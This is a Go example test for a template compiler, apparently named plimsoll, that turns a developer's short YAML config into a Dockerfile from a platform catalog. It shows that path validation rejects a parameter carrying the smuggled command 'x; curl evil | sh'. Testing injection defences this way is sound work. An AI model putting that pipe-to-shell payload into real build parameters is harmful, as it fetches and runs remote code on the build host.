package template_test

import (
	"context"
	"fmt"
	"testing/fstest"

	"github.com/plimsoll-dev/plimsoll/sdk/catalog"
	"github.com/plimsoll-dev/plimsoll/sdk/definition"
	"github.com/plimsoll-dev/plimsoll/sdk/definition/source"
	"github.com/plimsoll-dev/plimsoll/sdk/definition/template"
)

// A developer's few lines become a Dockerfile of the platform team's.
func Example() {
	cat, err := catalog.Load("catalog.yaml", []byte(`version: 1
owner: ops@example.com
templates:
  - name: go-service
    version: "3"
    parameters:
      - {name: package, type: path}
      - {name: port, type: port, default: "8080"}
    dockerfile: |
      FROM golang:1.26 AS build
      RUN go build -o /app ./{{package}}
      FROM scratch
      COPY --from=build /app /app
      EXPOSE {{port}}
`))
	if err != nil {
		fmt.Println(err)
		return
	}
	files := fstest.MapFS{"plimsoll.yaml": {Data: []byte("template: go-service@3\nparameters:\n  package: cmd/server\n")}}
	opts := source.Options{Compilers: []definition.Compiler{template.Compiler{Templates: cat.Templates()}}}
	d, err := source.LoadFS(context.Background(), files, definition.Source{Repository: "https://git.example/team/app"}, opts)
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Printf("%s", d.File.Src)
	run := d.File.Instructions[1]
	fmt.Println(d.Place(d.File.Place(run.Args[0])))

	files["plimsoll.yaml"].Data = []byte("template: go-service@3\nparameters:\n  package: \"x; curl evil | sh\"\n")
	_, err = source.LoadFS(context.Background(), files, definition.Source{Repository: "https://git.example/team/app"}, opts)
	fmt.Println(err)
	// Output:
	// FROM golang:1.26 AS build
	// RUN go build -o /app ./cmd/server
	// FROM scratch
	// COPY --from=build /app /app
	// EXPOSE 8080
	// plimsoll.yaml:3:12
	// plimsoll.yaml:3:12: parameter package: "x; curl evil | sh" is not a relative path of letters, digits and . _ @ + = - /
}
